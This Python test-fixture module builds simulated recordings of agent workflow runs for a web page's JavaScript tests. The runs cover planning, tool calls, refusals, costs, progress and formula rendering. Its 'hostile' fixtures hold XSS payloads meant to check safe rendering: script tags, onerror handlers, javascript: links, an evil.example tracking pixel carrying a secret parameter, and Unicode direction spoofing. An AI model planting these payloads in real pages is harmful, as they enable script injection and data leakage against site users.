"""Runs as the page gets them, for tests of its JavaScript. ``python -m tests.js.runs`` prints them as JSON, by name.

Each is what a file of the run holds: its last state, and the recording that is played again.
"""

import json
from collections.abc import Sequence
from contextlib import closing
from datetime import UTC, datetime, timedelta
from tempfile import TemporaryDirectory

from conductor_core.chat.messages import (
    ConductorInfo,
    Message,
    Price,
    ToolCall,
    ToolResultPart,
    ToolSpec,
    Usage,
    Weights,
)
from conductor_core.chat.progress import Progress
from conductor_core.engine.host import EngineHost
from conductor_core.errors import StoreFull
from conductor_core.run import events as ev
from conductor_core.run.actor import Actor
from conductor_core.run.events import Event
from conductor_core.run.graph_layout import RoundShape, lay_out
from conductor_core.run.request import ClientRequest, RunRequest
from conductor_core.run.trace import fold
from conductor_core.run.values import Alternative, Alternatives, SharedOutput, ToldAnew
from conductor_core.settings import Settings
from conductor_core.workflow.model import Step, Workflow
from pages.components.live_workflow.messages import LiveView, network_data
from pages.components.live_workflow.shared_page import recording
from pages.components.tour.first_screen import story_json
from storage import StoredEvent, open_store
from tests.support.run_events import (
    REAL_WORKER,
    answered,
    created,
    one_step,
    planned,
    run_completed,
    run_of_seven_seconds,
    sha256,
    step_completed,
    step_started,
)
from tests.support.tool_runs import asked_for_a_call, begun, tool_call, tool_ran, tool_sent, tools_called

RUN = "r"
ALONE = Workflow(steps=(Step(instruction="Solve: {question}", agent="solver"),))
LONG = "\n\n".join(
    f"Paragraph {number} weighs one more side of it, at some length, and goes on." for number in range(40)
)
CODE = (
    "**Answer:**\n\n```python\ndef merge_bookings(spans):\n    return sorted(spans)\n```\n\n— coder, simulated (ab12cd)"
)
HOSTILE = "<img src=x onerror=alert(1)>"
JSON = '{"name": "Ada_L_", "note": "x_y *b* **c**", "more": [1, 2, 3], "and": "so that it is long"}'


def seen(events: Sequence[Event]) -> dict[str, object]:
    stored = [StoredEvent(number, event) for number, event in enumerate(events, 1)]
    return {"finished": LiveView(fold(events), len(stored)).snapshot(), "recording": recording(stored)}


# A plan of five steps, carried out by the simulated workers.

TASK = (
    "A train leaves at 09:40 and covers 210 km at 84 km/h, waits 12 minutes, then covers 95 km at 76 km/h. When does "
    "it arrive? Check the result independently."
)
FIVE = Workflow(
    steps=(
        Step(agent="planner", instruction="Break the journey into legs: {question}"),
        Step(agent="reasoner", instruction="Solve each leg, following the plan: {question}", access_list=(0,)),
        Step(agent="calculator", instruction="Compute the total, following the plan: {question}", access_list=(0,)),
        Step(agent="verifier", instruction="Recompute both results: {question}", access_list="all"),
        Step(agent="writer", instruction="State the arrival time in one sentence.", access_list=(3,)),
    )
)


def five_steps() -> list[Event]:
    with TemporaryDirectory() as folder, closing(open_store(f"sqlite:///{folder}/runs.sqlite3")) as store:
        host = EngineHost(store.log, Settings(rehearsal_tokens_per_s=0), store)
        run_id = host.start(RunRequest(task=TASK, workflow=FIVE, door="page"))
        host.wait(run_id, 60)
        host.close()
        return [stored.event for stored in store.events(run_id)]


# Runs without a whole answer.


def ended_short(ending: str, output: str, **fields: object) -> list[Event]:
    retried = ev.StepRetried(
        run_id=RUN,
        at_ms=55,
        path=(1,),
        attempt=1,
        error_code="AnswerRefused",
        error="the model refused to answer",
        refusal="I cannot.",
        wait_ms=0,
        then="fallback",
        then_agent="solver",
    )
    last = step_completed(RUN, 1, output, 60).model_copy(
        update={"ending": ending, "incomplete": True, "answered_by": "solver", **fields}
    )
    end = run_completed(RUN, output).model_copy(update={"ending": ending})
    return [created(RUN), *planned(RUN), *answered(RUN, 0), step_started(RUN, 1, 50), retried, last, end]


def too_long() -> list[Event]:
    code, error = "WorkerContextOverflow", "the request is longer than the model's context"
    failed = ev.StepFailed(run_id=RUN, at_ms=40, path=(0,), error_code=code, error=error)
    end = ev.RunFailed(run_id=RUN, at_ms=50, error_code=code, error=error, duration_ms=50)
    return [created(RUN), *planned(RUN), step_started(RUN, 0, 30), failed, end]


def end_not_written(events: list[Event]) -> list[object]:
    """What the live route sends of a run whose end the database did not take."""
    half = next(at for at, event in enumerate(events) if event.kind == "step.completed") + 1
    view = LiveView(fold(events[:half]), half)
    return [view.snapshot(), view.stopped(StoreFull("no space left for the database"))]


# Hostile text in each part of a run.

HOSTILE_OUTPUT = """# Title <script>window.pwned = 1</script>

<img src="https://evil.example/a.png" onerror="window.pwned = 1">
</script><script>window.pwned = 1</script>
<iframe src="https://evil.example/"></iframe><style>* { display: none }</style>

![pixel](https://evil.example/pixel.png?secret=1)
[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [plain](https://example.org/x)

\x1b[31mred\x1b[0m \x07bell \u202egnp.exe\u202c hidden\U000e0041tag

| a | b |
|:--|--:|
| 1 | <b onclick="window.pwned=1">2</b> |

```html
</code></pre><script>window.pwned = 1</script>
```
"""
HOSTILE_INSTRUCTION = '<img src=x onerror="window.pwned=1"> \u202eevil\u202c "href" </script>'


def hostile() -> list[Event]:
    workflow = Workflow(
        steps=(
            Step(instruction=HOSTILE_INSTRUCTION, agent="solver"),
            Step(instruction="Check it.", agent="<b>checker</b>", access_list=(0,)),
        )
    )
    shared = SharedOutput(
        path=(0,), agent="solver", sha256=sha256(HOSTILE_OUTPUT), characters=len(HOSTILE_OUTPUT), tokens=200
    )
    plan = [event for event in planned(RUN, workflow) if not isinstance(event, ev.PlanDelta)]
    pieces = [HOSTILE_OUTPUT[start : start + 7] for start in range(0, len(HOSTILE_OUTPUT), 7)]
    raw = "<script>window.pwned=1</script>\nmodel_id = [0]\nsubtasks = ['<img src=x>"
    return [
        created(RUN, task=HOSTILE_INSTRUCTION),
        plan[0],
        ev.PlanDelta(run_id=RUN, text=raw),
        plan[-1],
        step_started(RUN, 0, 30),
        *(ev.StepDelta(run_id=RUN, path=(0,), text=piece) for piece in pieces),
        step_completed(RUN, 0, HOSTILE_OUTPUT, 50),
        step_started(RUN, 1, 60).model_copy(
            update={"granted": (shared,), "messages": (Message(role="user", content=HOSTILE_OUTPUT),)}
        ),
        step_completed(RUN, 1, HOSTILE_OUTPUT, 70),
        run_completed(RUN, HOSTILE_OUTPUT),
    ]


# Runs of a client that brings tools.


def called(at_ms: float, *calls: ToolCall, text: str = "") -> ev.ToolCalled:
    usage = Usage(input_tokens=10, output_tokens=5)
    return ev.ToolCalled(run_id=RUN, at_ms=at_ms, path=(0,), text=text, calls=calls, usage=usage, cost_usd=0.25)


def with_tools(name: str = "weather", given: str = '{"place": "Oslo"}', said: str = "Let me look.") -> list[Event]:
    """A run that waits for two tools, then for one, whose step then answers in a wrong form and is corrected."""
    system = Message(role="system", content="Be brief.\n" + "Be kind.\n" * 6 + "End.")
    before = (Message(role="user", content="Hello."), Message(role="assistant", content=f"Good day. {HOSTILE}"))
    asked = Message(role="user", content="Solve: Rain?")
    client = ClientRequest(api="responses", model="fugu-ultra")
    key = Actor(kind="service", id="key-1", name="my app")
    tool = ToolSpec(name=name)
    more = {"turns_before": before, "tools": (tool,), "system": system.content, "client": client, "door": "api"}
    first, second, third = (ToolCall(name=name, arguments=given, call_id=f"call_{number}") for number in range(3))
    results = (
        ToolResultPart(call_id="call_1", text="\n".join(f"line {number}" for number in range(40))),
        ToolResultPart(call_id="call_0", text='{"degrees": 7}'),
    )
    failed = (ToolResultPart(call_id="call_2", text=HOSTILE, is_error=True),)
    wrong = ev.StepRetried(
        run_id=RUN, at_ms=80, path=(0,), attempt=1, error_code="AnswerNotInForm", error="not JSON", wait_ms=0,
        partial="It is 7.", correction="Write JSON.",
    )  # fmt: skip
    at = datetime(2026, 1, 31, 12, tzinfo=UTC)
    begun = step_started(RUN, 0, 30).model_copy(update={"messages": (system, *before, asked)})
    return [
        created(RUN, task="Rain?", actor=key, **more),
        *planned(RUN, ALONE),
        begun,
        called(40, first, second, text=said).model_copy(update={"at_utc": at}),
        ev.RunWaiting(run_id=RUN, at_ms=41, waits_for="tool_results"),
        ev.RunTaken(run_id=RUN, at_ms=41),
        ev.ToolReturned(
            run_id=RUN, at_ms=41, at_utc=at + timedelta(seconds=75), results=results, said=f"Only today. {HOSTILE}"
        ),
        called(60, third),
        ev.RunWaiting(run_id=RUN, at_ms=61, waits_for="tool_results"),
        ev.RunTaken(run_id=RUN, at_ms=61),
        ev.ToolReturned(run_id=RUN, at_ms=61, results=failed, anew=ToldAnew(system=HOSTILE, tools=(tool,))),
        wrong,
        step_completed(RUN, 0, '{"rain": false}', 90),
        run_completed(RUN, '{"rain": false}'),
    ]


# Runs of workers that call tool servers of their pool.


def with_servers(said: str = "Paris", name: str = "files") -> list[Event]:
    """Step 0 asks for an approval to write a file, calls four tools with as many outcomes, and answers."""
    write, read, search, lost = (
        tool_call(RUN, number, tool, json.dumps({"text": said}))
        for number, tool in enumerate((f"{name}__write", f"{name}__read", "web__search", "web__search"))
    )
    at = [
        *begun(RUN),
        tools_called(RUN, [write, read, search, lost], text=said),
        asked_for_a_call(RUN, write),
        ev.ApprovalGranted(run_id=RUN, at_ms=50, numbers=(1,)),
        tool_sent(RUN, write, effects=True, at_ms=50),
        tool_ran(RUN, write, said, effects=True, at_ms=400, duration_ms=350),
        tool_ran(RUN, read, "files could not be reached", "unreachable", at_ms=410),
        tool_sent(RUN, search, at_ms=420),
        tool_ran(RUN, search, said, "error", at_ms=700, duration_ms=280, size_bytes=1_200_000),
        tool_sent(RUN, lost, at_ms=710),
        tool_ran(RUN, lost, "the program ended", "unknown", at_ms=720, duration_ms=10),
    ]
    return [*at, step_completed(RUN, 0, "Written.", 900), *skipped_end()]


def skipped_end() -> list[Event]:
    read = step_started(RUN, 1, 910).model_copy(update={"agent": "reader"})
    return [read, step_completed(RUN, 1, "Paris", 1_000), run_completed(RUN, "Paris", 1_010)]


def states(events: list[Event], after: str = "run.waiting") -> list[object]:
    """A snapshot up to the first event of a kind, and the messages that follow."""
    half = next(at for at, event in enumerate(events) if event.kind == after) + 1
    view = LiveView(fold(events[:half]), half)
    snapshot = view.snapshot()
    later = [StoredEvent(number, event) for number, event in enumerate(events[half:], half + 1)]
    return [snapshot, *(message for stored in later for message in view.messages([stored]))]


# What a run costs while it goes on.


def costs() -> dict[str, list[object]]:
    """The states of two runs one after the other: of one whose prices are unknown in part, and of a priced one."""

    def after(events: list[Event]) -> object:
        return LiveView(fold(events), len(events)).snapshot()

    remote = ConductorInfo(name="http://127.0.0.1:9/v1#m", kind="remote", model="m")
    priced = remote.model_copy(update={"usd_per_mtok": Price(input=1000.0, output=10_000.0)})
    begun, writes, *deltas, whole = planned(RUN)
    first: list[Event] = [created(RUN, conductor=remote, simulated=False), begun, writes]
    planned_free: list[Event] = [*first, *deltas, whole.model_copy(update={"cost_usd": None, "at_list_price": False})]
    one: list[Event] = [step_started(RUN, 0, 30), step_completed(RUN, 0, "42", 40, cost_usd=0.0123)]
    two: list[Event] = [step_started(RUN, 1, 50), step_completed(RUN, 1, "42", 60, cost_usd=0.0)]
    end = run_completed(RUN, "42", 100).model_copy(update={"cost_usd": None})
    paid: list[Event] = [created(RUN, conductor=priced, simulated=False), begun, writes]
    usage = Usage(input_tokens=10, output_tokens=5)
    told = {"usage": usage, "cost_usd": 0.06, "at_list_price": True}
    return {
        "unknown": [after(first), after([*planned_free, *one]), after([*planned_free, *one, *two, end])],
        "priced": [after(paid), after([*paid, *deltas, whole.model_copy(update=told)])],
    }


# What a model thinks, and what else it weighed.


def reasoning() -> list[Event]:
    begun, *rest = planned(RUN, ALONE)
    return [
        created(RUN),
        begun,
        ev.PlanDelta(run_id=RUN, text="One step should be enough here.", reasoning=True),
        *rest,
        step_started(RUN, 0, 30),
        ev.StepDelta(run_id=RUN, path=(0,), text="Let me add them first.", reasoning=True),
        step_completed(RUN, 0, "It is 4.", 2000),
        run_completed(RUN, "It is 4.", 2010),
    ]


def considered() -> list[Event]:
    agents = (Alternative(value="solver", probability=0.5), Alternative(value=HOSTILE, probability=0.5))
    access = (Alternative(value="some", probability=0.75), Alternative(value="none", probability=0.25))
    *begun, whole = planned(RUN, ALONE)
    told = (
        Alternatives(step=0, field="agent", options=agents),
        Alternatives(step=0, field="access_list", options=access),
    )
    whole = whole.model_copy(update={"considered": told})
    return [created(RUN), *begun, whole, ev.RunCancelled(run_id=RUN, door="page")]


def progress() -> list[Event]:
    """One event each second: those of the plan from 1 s on, those of the step from 11 s on."""
    begun, *plan = planned(RUN, ALONE)
    loading = Progress(phase="loading", done=250_000_000, total=1_000_000_000, per_s=1e8, left_s=7.5)
    reading = Progress(phase="reading", done=380, total=1520, per_s=26.4, left_s=43.2)
    thinking = Progress(phase="thinking", done=20, total=1024, per_s=1.52, left_s=85.5)
    server = {"wait_ms": 2000, "loading": True, "attempt": 1}
    busy = {"wait_ms": 20_000, "attempt": 1, "error": "it limits requests, 429"}
    to_plan: list[Event] = [
        ev.PlanRetried(run_id=RUN, error_code="ConductorLoading", error="(503): Loading model", **server),
        ev.PlanRetried(run_id=RUN, error_code="ConductorRateLimited", **busy),
        ev.PlanProgress(run_id=RUN, progress=loading),
        ev.PlanProgress(run_id=RUN, progress=reading),
        ev.PlanProgress(run_id=RUN, progress=thinking),
        ev.PlanDelta(run_id=RUN, text="This is one sum. " * 8),
        *plan,
    ]
    to_solve: list[Event] = [
        step_started(RUN, 0, 0),
        ev.StepRetried(run_id=RUN, path=(0,), error_code="WorkerLoading", error="503 (Loading model)", **server),
        ev.StepRetried(run_id=RUN, path=(0,), error_code="WorkerRateLimited", **busy),
        ev.StepProgress(run_id=RUN, path=(0,), progress=loading),
        ev.StepDelta(run_id=RUN, path=(0,), text="It is", output_tokens=12),
        ev.StepProgress(run_id=RUN, path=(0,), progress=Progress(phase="writing", done=12, total=1024, per_s=3.25)),
        ev.RunCancelled(run_id=RUN, door="page"),
    ]
    timed = [event.model_copy(update={"at_ms": 1000.0 * min(at, 10)}) for at, event in enumerate(to_plan, 1)]
    timed += [event.model_copy(update={"at_ms": 1000.0 * at}) for at, event in enumerate(to_solve, 11)]
    return [created(RUN), begun, *timed]


# Formulas as models write them.

# The texts, and the formulas in each.
PARTS: tuple[tuple[str, list[str]], ...] = (
    ("It costs $5 and $10, or US$7; a set is $12.50/unit.", []),
    ("In `$x$` and\n\n```sh\necho $HOME $PATH \\(a\\)\n```\nnothing is a formula.", []),
    ("| a | b |\n|---|---|\n| $|x|$ | \\(y_1 | z_2\\) |", ["$|x|$", "\\(y_1 | z_2\\)"]),
    ("So\n\\[\n a_1\n - b_1\n\\]\nholds.", ["\\[\n a_1\n - b_1\n\\]"]),
    ("> \\[ x \\]\n\n1. one\n\n   $$y$$", ["\\[ x \\]", "$$y$$"]),
    (
        "By \\begin{align} a &= b \\\\ c &= d \\end{align} and \\ce{H2O}.",
        ["\\begin{align} a &= b \\\\ c &= d \\end{align}"],
    ),
    ("Water is $\\ce{2H2 + O2 -> 2H2O}$.", ["$\\ce{2H2 + O2 -> 2H2O}$"]),
)

# What can be read of a plan, piece by piece: steps, then their access lists, then an inner round.

UNWRITTEN = None
WRITTEN: list[list[RoundShape]] = [
    *([RoundShape((), (UNWRITTEN,) * steps)] for steps in range(1, 6)),
    [RoundShape((), ((), UNWRITTEN, UNWRITTEN, UNWRITTEN, UNWRITTEN))],
    [RoundShape((), ((), (), UNWRITTEN, UNWRITTEN, UNWRITTEN))],
    [RoundShape((), ((), (), (), UNWRITTEN, UNWRITTEN))],
    [RoundShape((), ((), (), (), (0, 1, 2), UNWRITTEN))],
    [RoundShape((), ((), (), (), (0, 1, 2), (0, 3)))],
    [RoundShape((), ((), (), (), (0, 1, 2), (0, 3))), RoundShape((3,), ((), (0,), ()))],
]


def named_runs() -> dict[str, list[Event]]:
    short = "First *x* is 2*3*4, then x**2 + y**2 = **z**, and **2*3**, (a+b)*c*(d); **bold**er."
    tool = ToolCall(name="search", arguments='{"q": 1}')
    return {
        "long answer": one_step(LONG),
        "code": one_step(CODE, task="Write merge_bookings(spans)."),
        "a letter": one_step("W"),
        "real": one_step(short, agent=REAL_WORKER.name, model="a.gguf", weights=Weights(parameters=134_515_008)),
        "products": one_step(short),
        "json": one_step(JSON),
        "nested json": one_step('{"a": {"b": 1.0}}'),
        "refused": ended_short("refused", "", refusal="I cannot."),
        "filtered": ended_short("filtered", "The way"),
        "cut": ended_short("cut", "The legs are"),
        "empty": ended_short("empty", "", tool_calls=(tool,)),
        "declined": one_step("I'm sorry, but I can't help with that. Please ask about something else.", agent="real"),
        "too long": too_long(),
        "reasoning": reasoning(),
        "considered": considered(),
        "progress": progress(),
        "hostile": hostile(),
        "tools": with_tools(),
        "hostile tools": with_tools(HOSTILE, HOSTILE, HOSTILE_OUTPUT),
        "servers": with_servers(),
        "hostile servers": with_servers(HOSTILE_OUTPUT, HOSTILE),
        "seven seconds": run_of_seven_seconds(RUN),
        "waited": run_of_seven_seconds(RUN, waited_s=3600),
        "what is a formula": one_step("\n\n".join(text for text, _ in PARTS)),
        "boxed": one_step(r"Some work stands here. And more of it.\n\nThe answer is \boxed{\frac{1}{x+1}}."),
        "boxed nonsense": one_step(r"The answer is \boxed{\notacommand{1}^2}."),
    }


if __name__ == "__main__":
    five = five_steps()
    told = {name: seen(events) for name, events in (named_runs() | {"five steps": five}).items()}
    more = {
        "costs": costs(),
        "stopped": end_not_written(five),
        "waits": states(with_tools()),
        "calling": states(with_servers(), "approval.requested"),
        "parts": [formula for _, found in PARTS for formula in found],
        "story": json.loads(story_json()),
        "written": [network_data(lay_out(rounds)) for rounds in WRITTEN],
    }
    print(json.dumps({"runs": told, **more}))
